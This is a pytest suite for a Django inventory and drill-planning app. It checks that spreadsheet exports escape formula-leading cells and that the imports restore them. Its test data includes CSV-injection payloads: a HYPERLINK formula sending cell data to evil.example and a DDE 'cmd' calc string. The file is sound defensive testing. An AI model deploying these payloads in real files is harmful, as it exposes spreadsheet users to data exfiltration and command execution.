"""Issue #12, item 7: spreadsheet exports never carry a live formula. A text cell starting with
= + - @ tab or CR gets a leading apostrophe (OWASP) in CSV and XLSX, in every export (stock,
catalogue, MSEL), and the imports take it off again, so an exported file round-trips."""

from __future__ import annotations

import io

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from backend import spreadsheets
from drills import msel
from inventory import exchange, services
from inventory.models import Item, Lot
from tests.drills import conftest as drill_fixtures
from tests.inventory import conftest as inventory_fixtures

# Fixtures of the inventory and drills suites, shared here.
items, depots, stock, admin_user = (inventory_fixtures.items, inventory_fixtures.depots, inventory_fixtures.stock,
                                    inventory_fixtures.admin_user)  # fmt: skip
hebei, river, plan = drill_fixtures.hebei, drill_fixtures.river, drill_fixtures.plan
trainer, evaluator, make_drill = drill_fixtures.trainer, drill_fixtures.evaluator, drill_fixtures.make_drill

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1"]
FORMULAS.append("\r=1")


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_would_run_is_escaped_and_comes_back(value):
    assert spreadsheets.escape_cell(value) == "'" + value
    assert spreadsheets.unescape_cell(spreadsheets.escape_cell(value)) == value
    assert spreadsheets.escape_cell("滹沱河") == "滹沱河" and spreadsheets.escape_cell(-3) == -3
    assert spreadsheets.unescape_cell("'普通文本") == "'普通文本"  # an apostrophe of one's own stays


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_inert(content, fmt: str, value: str):
    if fmt == "csv":
        text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
        cells = [c for row in tablib.Dataset().load(text, format="csv") for c in row]
        assert "'" + value in cells and value not in cells
    else:
        cells = xlsx_cells(content)
        assert not any(c.data_type == "f" for c in cells)
        assert "'" + value in [c.value for c in cells]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_catalogue_export_page_escapes_and_its_file_imports_back(fmt, client, admin_user, items):
    evil = FORMULAS[0]
    services.save_item(item=items["pump"], name=evil)
    client.force_login(admin_user)
    response = client.get(f"/inventory/export/catalogue.{fmt}")
    assert response.status_code == 200
    assert_inert(response.content, fmt, evil)

    services.save_item(item=items["pump"], name="潜水泵")
    upload = SimpleUploadedFile(f"catalogue.{fmt}", response.content)
    answer = client.post("/inventory/import/", {"what": "catalogue", "file": upload})
    assert answer.status_code in (200, 302), answer.content.decode()[:2000]
    assert Item.objects.get(code="pump").name == evil


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_stock_export_command_escapes_and_reads_back(fmt, tmp_path, depots, items, stock):
    stock(depots["XZ-CITY-01"], items["sandbag"], 10, lot="=1+1")
    path = tmp_path / f"stock.{fmt}"
    call_command("export_inventory", "stock", str(path), stdout=io.StringIO())
    assert_inert(path.read_bytes(), fmt, "=1+1")
    dataset = exchange.read(path)
    assert dataset.dict[0]["lot"] == "=1+1"
    assert Lot.objects.get().code == "=1+1"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_msel_export_escapes_and_imports_back(fmt, api_for, trainer, make_drill, departments):
    drill = make_drill(injects=[(5, "fire", "筑坝拦截")])
    inject = drill.injects.get()
    evil = FORMULAS[1]
    inject.message = evil
    inject.save(update_fields=["message"])
    api = api_for(trainer)
    response = api.get(f"/api/drills/{drill.pk}/msel/", {"file_format": fmt})
    assert response.status_code == 200
    assert_inert(response.content, fmt, evil)

    inject.message = "改掉"
    inject.save(update_fields=["message"])
    upload = SimpleUploadedFile(f"msel.{fmt}", response.content)
    answer = api.post(f"/api/drills/{drill.pk}/msel/", {"file": upload}, format="multipart")
    assert answer.status_code == 200, answer.content
    assert drill.injects.get().message == evil
    assert msel.COLUMNS  # the columns are unchanged
